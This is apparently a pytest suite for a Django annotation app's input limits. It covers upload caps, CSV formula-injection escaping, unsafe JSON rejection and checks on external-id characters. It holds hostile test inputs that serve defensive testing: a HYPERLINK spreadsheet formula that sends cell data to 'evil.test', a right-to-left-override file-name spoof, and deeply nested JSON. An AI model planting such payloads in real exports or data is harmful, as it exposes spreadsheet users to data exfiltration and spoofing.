"""Input limits: every cap refuses with a 4xx or a line-and-field error, stores nothing, and keeps no
uploaded file; gold CSV cells cannot run as spreadsheet formulas; unsafe JSON never reaches a 500."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from annotation import jsonsafe
from annotation.errors import ImportRejected, ValidationFailed
from annotation.importing import ID_CHARACTER, RECORD_TOO_LARGE, import_annotations, import_items
from annotation.kinds import get_kind
from annotation.models import Annotation, ImportJob, Item, Role
from annotation.services import UPLOAD_TOO_LARGE, annotation_submit, membership_add
from annotation.uploads import CappedTemporaryFileUploadHandler
from config.api_limits import PAGE_TOO_LARGE
from tests.api.conftest import client_for
from tests.validation.conftest import add_items, annotate
from validation.exports import write_csv
from validation.reports import ReportParameters, build_report
from validation.reports.label_contextualization import NO_REVIEWS

pytestmark = pytest.mark.django_db
COPA = get_kind("copa_likert")
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")'


def copa_record(external_id: str, **changes) -> dict:
    return {"external_id": external_id, **COPA.example_payload(), **changes}


def jsonl(records) -> str:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records)


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def rejected(call) -> list:
    with pytest.raises(ImportRejected) as caught:
        call()
    return caught.value.errors


def uploads(settings) -> list[Path]:
    folder = Path(settings.MEDIA_ROOT) / "imports"
    return list(folder.iterdir()) if folder.exists() else []


@pytest.fixture
def team(make_project, make_user):
    project = make_project("copa_likert", slug="main", overlap=2)
    people = {name: make_user(name) for name in ("res", "ann1", "expert", "stranger")}
    membership_add(project=project, user=people["res"], role=Role.RESEARCHER)
    membership_add(project=project, user=people["ann1"], role=Role.ANNOTATOR)
    membership_add(project=project, user=people["expert"], role=Role.EXPERT)
    return project, people


# -- (6) storage caps ---------------------------------------------------------------------------------


class UploadTests:
    def upload(self, client, project, content: bytes, name="items.jsonl", **headers):
        data = {"target": "items", "file": SimpleUploadedFile(name, content)}
        return client.post(reverse("import_upload", args=[project.slug]), data, **headers)

    def test_upload_over_cap_is_refused_and_deleted(self, client, team, settings, django_capture_on_commit_callbacks):
        project, people = team
        settings.CONCORD_IMPORT_MAX_BYTES = 1000
        client.force_login(people["res"])
        content = jsonl(copa_record(f"i{n}") for n in range(10)).encode()
        assert len(content) > 1000
        with django_capture_on_commit_callbacks(execute=True):
            response = self.upload(client, project, content)
        assert response.status_code == 400
        assert UPLOAD_TOO_LARGE.format(limit=1000).encode() in response.content
        assert not ImportJob.objects.exists() and not Item.objects.exists()
        assert uploads(settings) == []

    def test_upload_past_the_cap_stops_growing_on_disk(self, settings):
        settings.CONCORD_IMPORT_MAX_BYTES = 100
        handler = CappedTemporaryFileUploadHandler()
        handler.new_file("file", "big.jsonl", "application/octet-stream", 1000)
        for start in range(0, 1000, 50):
            handler.receive_data_chunk(b"x" * 50, start)
        received = handler.file_complete(1000)
        try:
            assert received.size == 1000  # the service sees the full size and refuses it
            assert Path(received.temporary_file_path()).stat().st_size == 100
        finally:
            received.close()

    def test_upload_at_cap_is_accepted(self, client, team, settings, django_capture_on_commit_callbacks):
        project, people = team
        content = jsonl([copa_record("a")]).encode()
        settings.CONCORD_IMPORT_MAX_BYTES = len(content)
        client.force_login(people["res"])
        with django_capture_on_commit_callbacks(execute=True):
            self.upload(client, project, content)
        assert ImportJob.objects.get().status == "done" and Item.objects.count() == 1

    def test_uploaded_file_is_deleted_after_a_successful_import(
        self, client, team, settings, django_capture_on_commit_callbacks
    ):
        project, people = team
        client.force_login(people["res"])
        with django_capture_on_commit_callbacks(execute=True):
            self.upload(client, project, jsonl([copa_record("a"), copa_record("b")]).encode(), HTTP_HX_REQUEST="true")
        job = ImportJob.objects.get()
        assert (job.status, job.rows_imported, job.stored_path) == ("done", 2, "")
        assert uploads(settings) == []

    def test_uploaded_file_is_deleted_after_a_rejected_import(
        self, client, team, settings, django_capture_on_commit_callbacks
    ):
        project, people = team
        client.force_login(people["res"])
        with django_capture_on_commit_callbacks(execute=True):
            self.upload(client, project, jsonl([copa_record("a"), copa_record("b", question="")]).encode())
        assert ImportJob.objects.get().status == "rejected" and not Item.objects.exists()
        assert uploads(settings) == []

    def test_command_line_import_keeps_the_local_file(self, team, tmp_path):
        project, _ = team
        path = write(tmp_path / "items.jsonl", jsonl([copa_record("a")]))
        call_command("import_items", project.slug, str(path), stdout=io.StringIO())
        assert path.exists() and Item.objects.count() == 1


class RecordCapTests:
    def test_jsonl_record_over_cap_is_a_line_error(self, team, tmp_path, settings):
        project, _ = team
        settings.CONCORD_MAX_RECORD_BYTES = 2000
        big = copa_record("big", response="x" * 50_000)
        path = write(tmp_path / "i.jsonl", jsonl([copa_record("a"), big, copa_record("c")]))
        errors = rejected(lambda: import_items(project=project, path=path))
        assert [(e.line, e.field, e.message) for e in errors] == [(2, "", RECORD_TOO_LARGE.format(limit=2000))]
        assert not Item.objects.exists()

    def test_lines_after_an_oversized_record_keep_their_numbers(self, team, tmp_path, settings):
        project, _ = team
        settings.CONCORD_MAX_RECORD_BYTES = 2000
        lines = [copa_record("a"), copa_record("big", response="é" * 30_000), copa_record("c", question="")]
        errors = rejected(lambda: import_items(project=project, path=write(tmp_path / "i.jsonl", jsonl(lines))))
        assert [(e.line, e.field) for e in errors] == [(2, ""), (3, "question")]

    def test_csv_row_over_record_cap_is_a_line_error(self, team, tmp_path, settings):
        project, _ = team
        settings.CONCORD_MAX_RECORD_BYTES = 500
        path = tmp_path / "a.csv"
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle)
            writer.writerow(["rater", "external_id", "value"])
            writer.writerow(["r", "a", json.dumps({"scores": COPA.example_value()["scores"], "comment": "c" * 600})])
        errors = rejected(lambda: import_annotations(project=project, path=path))
        assert [(e.line, e.field, e.message) for e in errors] == [(2, "", RECORD_TOO_LARGE.format(limit=500))]


class AnswerCapTests:
    def value(self, size: int) -> dict:
        return {**COPA.example_value(), "comment": "c" * size}

    def test_answer_over_cap_is_refused_on_submit(self, team, settings):
        project, people = team
        settings.CONCORD_MAX_ANSWER_BYTES = 1000
        item = add_items(project, ["a"])["a"]
        with pytest.raises(ValidationFailed) as caught:
            annotation_submit(item=item, user=people["ann1"], value=self.value(2000))
        assert caught.value.errors[0].field == "value" and "CONCORD_MAX_ANSWER_BYTES" in caught.value.errors[0].message
        annotation_submit(item=item, user=people["ann1"], value=self.value(500))
        assert Annotation.objects.count() == 1

    def test_answer_over_cap_is_400_in_the_api(self, team, settings):
        _, people = team
        settings.CONCORD_MAX_ANSWER_BYTES = 1000
        add_items(team[0], ["a"])
        client = client_for(people["ann1"])
        assignment = client.post("/api/projects/main/assignments/next/").json()
        response = client.post(
            f"/api/assignments/{assignment['id']}/submit/", {"value": self.value(5000)}, format="json"
        )
        assert response.status_code == 400 and response.json()["errors"][0]["field"] == "value"
        assert not Annotation.objects.exists()

    def test_answer_over_cap_is_a_line_error_on_import(self, team, tmp_path, settings):
        project, _ = team
        settings.CONCORD_MAX_ANSWER_BYTES = 1000
        add_items(project, ["a"])
        record = {"rater": "r", "external_id": "a", "value": self.value(5000)}
        errors = rejected(
            lambda: import_annotations(project=project, path=write(tmp_path / "a.jsonl", jsonl([record])))
        )
        assert [(e.line, e.field) for e in errors] == [(1, "value")]

    def test_known_answer_over_cap_is_a_line_error(self, team, tmp_path, settings):
        project, _ = team
        settings.CONCORD_MAX_ANSWER_BYTES = 1000
        path = write(tmp_path / "i.jsonl", jsonl([copa_record("a", gold=self.value(5000))]))
        errors = rejected(lambda: import_items(project=project, path=path))
        assert [(e.line, e.field) for e in errors] == [(1, "gold")]


class PageSizeTests:
    def test_page_size_above_cap_is_refused(self, team, settings):
        _, people = team
        settings.CONCORD_API_MAX_PAGE_SIZE = 50
        response = client_for(people["res"]).get("/api/projects/main/items/?limit=51")
        assert response.status_code == 400
        assert response.json()["errors"] == [
            {"field": "limit", "message": PAGE_TOO_LARGE.format(limit=50), "line": None}
        ]

    def test_page_size_at_cap_is_served(self, team, settings):
        project, people = team
        settings.CONCORD_API_MAX_PAGE_SIZE = 50
        add_items(project, [f"i{n}" for n in range(3)])
        response = client_for(people["res"]).get("/api/projects/main/annotations/?limit=50")
        assert response.status_code == 200
        assert len(client_for(people["res"]).get("/api/projects/main/items/?limit=50").json()["results"]) == 3

    def test_api_body_over_cap_is_refused(self, team, settings):
        _, people = team
        settings.CONCORD_IMPORT_MAX_BYTES = 1000
        body = {"records": [copa_record(f"i{n}") for n in range(10)]}
        response = client_for(people["res"]).post("/api/projects/main/items/", body, format="json")
        assert response.status_code == 413 and not Item.objects.exists()


# -- (7) CSV formula injection ------------------------------------------------------------------------


@pytest.fixture
def hostile_gold(team, tmp_path):
    """Items whose forum text starts like formulas, each with a known answer (so gold-ready)."""
    project, people = team
    records = [
        copa_record("f1", question=FORMULA, response="+1 and more", gold=COPA.example_value()),
        copa_record("f2", question="@SUM(A1:A9)", response="-2+3", gold=COPA.example_value()),
        copa_record("f3", question="\tTab first", response="\rReturn first", gold=COPA.example_value()),
        copa_record("plain", gold=COPA.example_value()),
    ]
    import_items(project=project, path=write(tmp_path / "items.jsonl", jsonl(records)))
    return project, people


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as handle:  # keeps a \r inside a cell
        return list(csv.DictReader(handle))


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(rows: list[dict]) -> list[str]:
    return [cell for row in rows for cell in row.values() if cell and cell.startswith(FORMULA_STARTS)]


class CsvExportTests:
    @pytest.mark.parametrize("shape", ["concord", "benchmark"])
    def test_csv_export_escapes_formula_cells(self, hostile_gold, tmp_path, shape):
        project, _ = hostile_gold
        path = tmp_path / "gold.csv"
        call_command(
            "export_gold", project.slug, "--format", "csv", "--shape", shape, "-o", str(path), stdout=io.StringIO()
        )
        rows = read_csv(path)
        assert len(rows) == 4 and formula_cells(rows) == []
        by_id = {row.get("external_id") or row.get("id"): row for row in rows}
        assert by_id["f1"]["question"] == "'" + FORMULA and by_id["f2"]["response"] == "'-2+3"
        assert by_id["f3"]["question"] == "'\tTab first" and by_id["f3"]["response"] == "'\rReturn first"
        assert by_id["plain"]["question"] == COPA.example_payload()["question"]  # ordinary text unchanged

    @pytest.mark.parametrize("shape", ["concord", "benchmark"])
    def test_raw_csv_option_writes_cells_unchanged(self, hostile_gold, tmp_path, shape):
        project, _ = hostile_gold
        path = tmp_path / "gold.csv"
        call_command(
            "export_gold", project.slug, "--format", "csv", "--shape", shape, "--raw-csv", "-o", str(path),
            stdout=io.StringIO(),
        )  # fmt: skip
        by_id = {row.get("external_id") or row.get("id"): row for row in read_csv(path)}
        assert by_id["f1"]["question"] == FORMULA and by_id["f2"]["response"] == "-2+3"

    def test_jsonl_export_is_never_escaped(self, hostile_gold, tmp_path):
        project, _ = hostile_gold
        path = tmp_path / "gold.jsonl"
        call_command("export_gold", project.slug, "--format", "jsonl", "-o", str(path), stdout=io.StringIO())
        records = {r["external_id"]: r for r in map(json.loads, path.read_text(encoding="utf-8").splitlines())}
        assert records["f1"]["question"] == FORMULA

    def test_csv_numbers_are_not_escaped(self, tmp_path):
        path = tmp_path / "n.csv"
        write_csv(path, [{"score": -1, "ratio": -0.5, "text": "-1", "list": [-1]}])
        assert read_csv(path) == [{"score": "-1", "ratio": "-0.5", "text": "'-1", "list": "[-1]"}]

    def test_api_gold_csv_escapes_by_default_and_raw_on_request(self, hostile_gold):
        _, people = hostile_gold
        client = client_for(people["res"])
        escaped = b"".join(client.get("/api/projects/main/gold/?format=csv&shape=benchmark").streaming_content)
        assert formula_cells(csv_rows(escaped.decode())) == []
        raw = b"".join(client.get("/api/projects/main/gold/?format=csv&csv_escape=false").streaming_content)
        assert FORMULA in [row["question"] for row in csv_rows(raw.decode())]
        assert client.get("/api/projects/main/gold/?format=csv&csv_escape=maybe").status_code == 400

    def test_web_gold_download_escapes_formula_cells(self, client, hostile_gold):
        project, people = hostile_gold
        client.force_login(people["expert"])
        response = client.get(reverse("gold_download", args=[project.slug]) + "?format=csv")
        rows = csv_rows(b"".join(response.streaming_content).decode())
        assert len(rows) == 4 and formula_cells(rows) == []


# -- (8) unsafe JSON ------------------------------------------------------------------------------------


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


class JsonLineTests:
    def items(self, project, tmp_path, lines: list[str]):
        return rejected(lambda: import_items(project=project, path=write(tmp_path / "i.jsonl", "\n".join(lines))))

    def test_deeply_nested_json_is_a_line_error(self, team, tmp_path):
        project, _ = team
        good = json.dumps(copa_record("a"))
        errors = self.items(project, tmp_path, [good, '{"external_id": "b", "profile": ' + nested(10_000) + "}"])
        assert [(e.line, e.message) for e in errors] == [(2, jsonsafe.TOO_DEEP.format(depth=64))]
        assert not Item.objects.exists()

    def test_nesting_over_the_depth_cap_names_the_field(self, team, tmp_path, settings):
        project, _ = team
        settings.CONCORD_MAX_JSON_DEPTH = 5
        errors = self.items(project, tmp_path, ['{"external_id": "b", "profile": {"CT": ' + nested(6) + "}}"])
        assert [(e.line, e.field, e.message) for e in errors] == [
            (1, "profile.CT[0][0][0]", jsonsafe.TOO_DEEP.format(depth=5))
        ]

    @pytest.mark.parametrize("number", ["1e999", "-1e999", "NaN", "Infinity", "-Infinity"])
    def test_non_finite_number_is_a_line_error(self, team, tmp_path, number):
        project, _ = team
        line = json.dumps(copa_record("a", gold={"scores": {"CT": 0}}))[:-1] + f', "extra": [1, {number}]}}'
        errors = self.items(project, tmp_path, [line])
        assert [(e.line, e.field, e.message) for e in errors] == [
            (1, "extra[1]", jsonsafe.NOT_FINITE.format(text=number))
        ]

    def test_unpaired_surrogate_is_a_line_error(self, team, tmp_path):
        project, _ = team
        line = json.dumps(copa_record("a")).replace('"question": "', '"question": "\\ud800')
        errors = self.items(project, tmp_path, [line])
        assert [(e.line, e.field, e.message) for e in errors] == [
            (1, "question", jsonsafe.SURROGATE.format(code=0xD800))
        ]

    def test_paired_surrogates_are_one_character(self, team, tmp_path):
        project, _ = team
        line = json.dumps(copa_record("a")).replace('"question": "', '"question": "\\ud83d\\ude00 ')
        import_items(project=project, path=write(tmp_path / "i.jsonl", line))
        assert Item.objects.get().payload["question"].startswith("\U0001f600 ")

    def test_unsafe_json_in_csv_cells_is_a_line_error(self, team, tmp_path):
        project, _ = team
        add_items(project, ["a"])
        path = tmp_path / "a.csv"
        path.write_text(
            "rater,external_id,value\n"
            'r,a,"{""scores"": {""CT"": 1e999}}"\n'
            'r,a,"{""comment"": ""\\udfff""}"\n'
            f"r,a,{nested(5000)}\n",
            encoding="utf-8",
        )
        errors = rejected(lambda: import_annotations(project=project, path=path))
        assert [(e.line, e.field) for e in errors] == [(2, "value.scores.CT"), (3, "value.comment"), (4, "value")]
        assert "not a finite number" in errors[0].message and "surrogate" in errors[1].message
        assert errors[2].message == jsonsafe.TOO_DEEP.format(depth=64)

    def test_unsafe_json_in_a_csv_payload_cell_is_a_line_error(self, make_project, tmp_path):
        project = make_project("label_contextualization")
        path = tmp_path / "i.csv"
        path.write_text(
            'external_id,dataset,domain,label,guideline,other_labels\na,D,d,L,g,"[1e999]"\n', encoding="utf-8"
        )
        errors = rejected(lambda: import_items(project=project, path=path))
        assert [(e.line, e.field) for e in errors] == [(2, "other_labels[0]")]


class JsonBodyTests:
    BODIES = {
        "deep": '{"value": ' + nested(10_000) + "}",
        "over the depth cap": '{"value": ' + nested(65) + "}",
        "1e999": '{"value": {"scores": {"CT": 1e999}}}',
        "NaN": '{"value": {"scores": {"CT": NaN}}}',
        "surrogate": '{"value": {"comment": "\\ud800"}}',
        "NUL": '{"value": {"scores": {"CT": 1}, "comment": "cut\\u0000here"}}',
    }

    @pytest.mark.parametrize("name", list(BODIES))
    def test_unsafe_json_body_is_400_on_submit(self, team, name):
        project, people = team
        add_items(project, ["a"])
        client = client_for(people["ann1"])
        assignment = client.post("/api/projects/main/assignments/next/").json()
        response = client.post(
            f"/api/assignments/{assignment['id']}/submit/", self.BODIES[name], content_type="application/json"
        )
        assert response.status_code == 400 and response.json()["detail"].startswith("JSON parse error")
        assert not Annotation.objects.exists()

    def test_unsafe_json_body_is_400_on_item_import(self, team):
        _, people = team
        record = json.dumps(copa_record("a"))[:-1] + ', "note": "\\udc00"}'
        response = client_for(people["res"]).post(
            "/api/projects/main/items/", '{"records": [' + record + "]}", content_type="application/json"
        )
        assert response.status_code == 400 and "records[0].note" in response.json()["detail"]
        assert not Item.objects.exists()

    def test_well_formed_body_still_works(self, team):
        _, people = team
        body = {"records": [copa_record("a", question="Ünïcödé 😀 [brackets] {braces}")]}
        response = client_for(people["res"]).post("/api/projects/main/items/", body, format="json")
        assert response.json() == {"imported": 1, "skipped": 0, "updated": 0}


# -- (9) external ids ----------------------------------------------------------------------------------


class ExternalIdTests:
    @pytest.mark.parametrize(
        ("char", "name"),
        [("\x01", "a control character"), ("\u202e", "RIGHT-TO-LEFT OVERRIDE"), ("\u200b", "ZERO WIDTH SPACE"),
         ("\u2028", "LINE SEPARATOR"), ("\x1b", "a control character")],
    )  # fmt: skip
    def test_external_id_with_control_or_format_character_is_refused(self, team, tmp_path, char, name):
        project, _ = team
        path = write(tmp_path / "i.jsonl", jsonl([copa_record("ok"), copa_record(f"ab{char}c")]))
        errors = rejected(lambda: import_items(project=project, path=path))
        message = ID_CHARACTER.format(char=f"U+{ord(char):04X}", name=name, position=3)
        assert [(e.line, e.field, e.message) for e in errors] == [(2, "external_id", message)]
        assert not Item.objects.exists()

    def test_external_id_with_a_nul_is_refused_as_the_line_is_read(self, team, tmp_path):
        project, _ = team
        path = write(tmp_path / "i.jsonl", jsonl([copa_record("ok"), copa_record("ab\x00c")]))
        errors = rejected(lambda: import_items(project=project, path=path))
        assert [(e.line, e.field, e.message) for e in errors] == [(2, "external_id", jsonsafe.NUL_CHARACTER)]
        assert not Item.objects.exists()

    def test_external_ids_equal_after_nfc_are_duplicates(self, team, tmp_path):
        project, _ = team
        composed, decomposed = "caf\u00e9", "cafe\u0301"
        path = write(tmp_path / "i.jsonl", jsonl([copa_record(composed), copa_record(decomposed)]))
        errors = rejected(lambda: import_items(project=project, path=path))
        assert [(e.line, e.field) for e in errors] == [(1, "external_id")] and "duplicate" in errors[0].message

    def test_external_id_is_stored_nfc_and_matched_by_annotation_imports(self, team, tmp_path):
        project, _ = team
        import_items(project=project, path=write(tmp_path / "i.jsonl", jsonl([copa_record("cafe\u0301")])))
        assert Item.objects.get().external_id == unicodedata.normalize("NFC", "cafe\u0301") == "caf\u00e9"
        labels = [{"rater": "r", "external_id": "cafe\u0301", "value": COPA.example_value()}]
        assert import_annotations(project=project, path=write(tmp_path / "a.jsonl", jsonl(labels))).imported == 1

    def test_accented_and_non_latin_ids_still_import(self, team, tmp_path):
        project, _ = team
        ids = ["caf\u00e9", "\u65e5\u672c", "a b", "x-1"]
        import_items(project=project, path=write(tmp_path / "i.jsonl", jsonl(copa_record(i) for i in ids)))
        assert sorted(Item.objects.values_list("external_id", flat=True)) == sorted(ids)

    def test_api_item_import_refuses_a_bidi_override_in_an_id(self, team):
        _, people = team
        body = {"records": [copa_record("invoice\u202egpj.exe")]}
        response = client_for(people["res"]).post("/api/projects/main/items/", body, format="json")
        assert response.status_code == 400 and response.json()["errors"][0]["field"] == "external_id"
        assert not Item.objects.exists()


# -- (10) rater names ----------------------------------------------------------------------------------


class RaterLinkTests:
    def test_imported_rater_matching_a_non_member_stays_external(self, team, tmp_path):
        project, people = team
        add_items(project, ["a"])
        labels = [
            {"rater": "stranger", "external_id": "a", "value": COPA.example_value()},
            {"rater": "ann1", "external_id": "a", "value": COPA.example_value()},
        ]
        import_annotations(project=project, path=write(tmp_path / "a.jsonl", jsonl(labels)))
        by_rater = {a.rater: a.annotator_id for a in Annotation.objects.all()}
        assert by_rater == {"stranger": None, "ann1": people["ann1"].pk}
        people["stranger"].delete()  # nothing of this project holds on to the stranger's account
        assert not get_user_model().objects.filter(username="stranger").exists()
        assert Annotation.objects.filter(rater="stranger").exists()


# -- (12) bugs met on the way ---------------------------------------------------------------------------


@pytest.fixture
def statements_only(make_project, make_user):
    """A label project with written statements and no reviews."""
    project = make_project("label_contextualization", slug="labels")
    researcher = make_user("lc-res")
    membership_add(project=project, user=researcher, role=Role.RESEARCHER)
    items = add_items(project, ["uses", "extends"])
    annotate(project, items["uses"], "ann", {"action": "write", "statement": "To use the cited work."})
    annotate(project, items["extends"], "bob", {"action": "write", "statement": "To extend the cited work."})
    return project, researcher


class StatementsWithoutReviewsTests:
    def test_label_report_without_reviews_says_so(self, statements_only):
        project, _ = statements_only
        report = build_report(project=project, parameters=ReportParameters(bootstrap=10, seed=1))
        table = report.table("label_review")
        assert table.caption == NO_REVIEWS and table.rows == ()

    def test_label_agreement_api_without_reviews_answers_nulls(self, statements_only):
        project, researcher = statements_only
        response = client_for(researcher).get(f"/api/projects/{project.slug}/agreement/")
        assert response.status_code == 200
        assert response.json()["dimensions"]["review_verdict"]["n_units"] == 0

    def test_label_report_page_without_reviews_shows_the_message(self, client, statements_only):
        project, researcher = statements_only
        client.force_login(researcher)
        response = client.get(reverse("report", args=[project.slug]), HTTP_HX_REQUEST="true")
        assert response.status_code == 200 and NO_REVIEWS in response.content.decode()


class ImportErrorListTests:
    def test_import_errors_are_listed_one_per_line(self, client, team, django_capture_on_commit_callbacks):
        project, people = team
        client.force_login(people["res"])
        lines = [copa_record("a", question=""), copa_record("b", response="")]
        with django_capture_on_commit_callbacks(execute=True):
            client.post(
                reverse("import_upload", args=[project.slug]),
                {"target": "items", "file": SimpleUploadedFile("i.jsonl", jsonl(lines).encode())},
            )
        page = client.get(reverse("project_detail", args=[project.slug])).content.decode()
        assert "line 1, field question: must not be empty\nline 2, field response: must not be empty" in page
        assert "\\n" not in page
